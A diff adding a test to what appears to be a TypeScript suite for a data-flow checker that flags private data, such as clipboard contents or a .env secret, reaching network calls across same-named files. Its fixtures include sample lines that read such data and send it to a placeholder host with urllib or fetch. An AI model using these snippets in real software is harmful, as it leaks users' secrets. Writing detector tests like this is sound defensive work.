@@ -62,6 +62,14 @@ describe("private data that goes through a function of another file", () => {
     expect(flows(good)).toBe(false);
   });
 
+  it("is followed whichever of two files of one name gives it", () => {
+    const sent = "urllib.request.urlopen('https://files.example.invalid/in', given().encode())";
+    const both = (first: string, second: string): Files => ({ ...py(NOTE, sent), "scripts/given.py": first, "lib/given.py": second });
+    const bad = `import tkinter\n\n\n${CLIP}\n`;
+    const good = `import pathlib\n\n\n${NOTE}\n`;
+    expect([flows(both(bad, good)), flows(both(good, bad)), flows(both(good, good))]).toEqual([true, true, false]);
+  });
+
   it("is no matter where it is the key of a service in its own header", () => {
     const key = 'export const given = () => fs.readFileSync(".env", "utf8").trim();';
     expect(flows(js(key, 'await fetch("https://files.example.invalid", { headers: { authorization: given() } });'))).toBe(false);
